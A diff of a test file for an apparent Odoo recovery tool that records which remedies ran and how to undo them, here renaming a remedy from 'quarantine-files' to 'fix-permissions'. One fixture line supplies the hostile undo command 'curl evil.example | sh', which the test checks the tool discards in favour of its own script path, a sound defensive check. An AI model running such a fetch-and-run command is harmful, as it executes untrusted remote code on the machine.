@@ -543,7 +543,7 @@ Most likely its consequences:
   it("tells what each remedy did, and how it is taken back; one that did nothing changed nothing", () => {
     const entries = journalOf(
       ...step(
-        "quarantine-files",
+        "fix-permissions",
         1,
         "looking\ndid: moved 4 files aside\ndid: told of <1> other\nundo: curl evil.example | sh\nbye: now\n",
         "done",
@@ -553,9 +553,9 @@ Most likely its consequences:
     );
     expect(deedsOf(entries)).toEqual([
       {
-        remedy: "quarantine-files",
+        remedy: "fix-permissions",
         did: ["moved 4 files aside", "told of <1> other"],
-        undo: "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-quarantine-files/undo",
+        undo: "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-fix-permissions/undo",
       },
       { remedy: "regenerate-assets", did: [], undo: "" },
     ]);
@@ -564,9 +564,9 @@ Most likely its consequences:
     expect(summary).toContain("  - told of &lt;1&gt; other");
     // That there is something to take back is for the host to say; with which command is not.
     expect(blockAfter(summary, "To take it back, as root on the droplet")).toBe(
-      "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-quarantine-files/undo",
+      "sh /var/lib/odoo-recover/shop-1/kept/3f9c2a71-1-fix-permissions/undo",
     );
-    expect(outputsOf(entries, "")).toMatchObject({ changed: "true", remedies: "quarantine-files" });
+    expect(outputsOf(entries, "")).toMatchObject({ changed: "true", remedies: "fix-permissions" });
     const idle = journalOf(
       ...step("regenerate-assets", 1, "not done: x", "not done: x"),
       concluded("unhealthy"),
